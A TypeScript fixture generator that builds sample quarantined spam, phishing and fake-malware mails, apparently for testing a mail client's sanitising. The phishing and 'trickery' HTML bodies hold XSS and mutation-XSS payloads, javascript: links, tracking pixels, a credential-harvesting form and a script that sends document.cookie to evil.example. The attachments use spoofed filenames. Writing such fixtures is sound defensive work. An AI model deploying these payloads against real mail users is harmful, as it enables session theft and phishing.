import { filePart, multipart, textPart } from '../mail-text.ts'
import type { Letter, Scene } from './letter.ts'

/** A mail that was put into quarantine, and why. */
export interface Suspect {
  readonly letter: Letter
  readonly reason: string
}

/**
 * Spam and phishing as they come, with everything that a reader must not act on: scripts, handlers, forms, links that
 * lie, pictures that call home. Harmless all the same: every address in it is a reserved one, and the programs do nothing.
 */
export function suspect(scene: Scene): Suspect {
  const { random } = scene
  return random.pick([phishing, prize, malware, trickery])(scene)
}

function phishing(scene: Scene): Suspect {
  const { random, to, token } = scene
  const from = {
    name: 'Kestrel Bank Security',
    address: `security-${random.integer(100, 999)}@kestre1-bank.example`,
  }
  const html = `<html><head><meta http-equiv="refresh" content="5;url=https://kestre1-bank.example/login">
<style>@import url(https://kestre1-bank.example/track.css?u=${random.hex(8)}); body{background:url(https://kestre1-bank.example/bg.png)}</style></head>
<body onload="document.forms[0].submit()">
<p>Dear customer ${to[0].address},</p>
<p>We have <b>limited</b> your account. Please verify your data within 24 hours:</p>
<form action="https://kestre1-bank.example/collect" method="post"><input name="pin" placeholder="PIN"><button>Verify</button></form>
<p><a href="https://kestre1-bank.example/login">https://www.kestrel-bank.example/login</a></p>
<img src="https://kestre1-bank.example/open.gif?m=${random.hex(12)}" width="1" height="1">
</body></html>`
  return {
    reason: `spam score ${(random.integer(90, 180) / 10).toFixed(1)}: URL text and target differ, form in HTML`,
    letter: {
      sender: from.address,
      from,
      to: [to[0]],
      subject: 'Your account has been limited !',
      headers: ['X-Spam-Flag: YES'],
      content: multipart('alternative', `=_alt_${token}`, [
        textPart('plain', 'Your account has been limited. Verify now.'),
        textPart('html', html),
      ]),
    },
  }
}

function prize(scene: Scene): Suspect {
  const { random, to } = scene
  const amount = `$${random.integer(2, 48)},500,000.00`
  const from = { name: 'Barr. Q. Fortune', address: `fortune${random.integer(10, 99)}@lottery.example` }
  return {
    reason: 'spam score 22.4: advance fee fraud',
    letter: {
      sender: `bounce-${random.hex(6)}@bulk.example`,
      from,
      to: [to[0]],
      subject: `RE: URGENT!!! Your PAYMENT of ${amount} is READY`,
      headers: ['X-Priority: 1', 'Reply-To: claims.dept@lottery.example'],
      content: textPart(
        'plain',
        `ATTENTION BENEFICIARY,\n\nThis is to officially inform you that your e-mail address has won the sum of ${amount}.\nKindly reconfirm your full name, home address and telephone number so that the release order can be signed.\n\nYours faithfully,\nBarr. Q. Fortune`,
      ),
    },
  }
}

function malware(scene: Scene): Suspect {
  const { random, to, token } = scene
  const from = { name: 'Parcel Service', address: 'delivery@parcel-notice.example' }
  return {
    reason: 'virus: Demo.Harmless.Dropper in “Invoice_scan.pdf.js”',
    letter: {
      sender: from.address,
      from,
      to: [to[0]],
      subject: `Parcel ${random.integer(100_000, 999_999)} could not be delivered`,
      content: multipart('mixed', `=_mix_${token}`, [
        textPart('plain', 'We could not deliver your parcel. Open the attached invoice and print the label.'),
        filePart(
          'application/octet-stream',
          'Invoice_scan.pdf.js',
          Buffer.from('// This is a demo: nothing here.\n'),
        ),
        filePart('application/x-msdownload', 'label\u202efdp.exe', Buffer.from('MZ this is no program\n')),
      ]),
    },
  }
}

function trickery(scene: Scene): Suspect {
  const { random, to, token } = scene
  const from = { name: 'IT Department', address: `it-help@${random.hex(6)}.example` }
  const html = `<html><body>
<svg onload="parent.postMessage('owned','*')"><style><img src=x onerror="alert(1)"></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(2)&gt;"></table></mtext></math>
<base href="https://evil.example/"><iframe srcdoc="<script>top.location='https://evil.example'</script>"></iframe>
<a href="java&#115;cript:alert(3)">Reset your password</a> <a href="//evil.example/x" ping="https://evil.example/ping">here</a>
<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x" src="cid:missing@nowhere">
<video poster="https://evil.example/p.jpg" autoplay><source src="https://evil.example/v.mp4"></video>
<object data="https://evil.example/o.swf"></object><link rel="stylesheet" href="https://evil.example/s.css">
<p style="position:fixed;top:0;left:0;width:100%;background:#fff">Your session has expired. Please log in again.</p>
<script>document.write('<img src="https://evil.example/?' + document.cookie + '">')</script>
</body></html>`
  return {
    reason: 'policy: script in HTML, sender domain does not exist',
    letter: {
      sender: null,
      from,
      to: [to[0]],
      subject: 'Password expires today – Aktion erforderlich ⚠',
      content: multipart('alternative', `=_alt_${token}`, [
        textPart('plain', 'Your password expires today.'),
        textPart('html', html),
      ]),
    },
  }
}
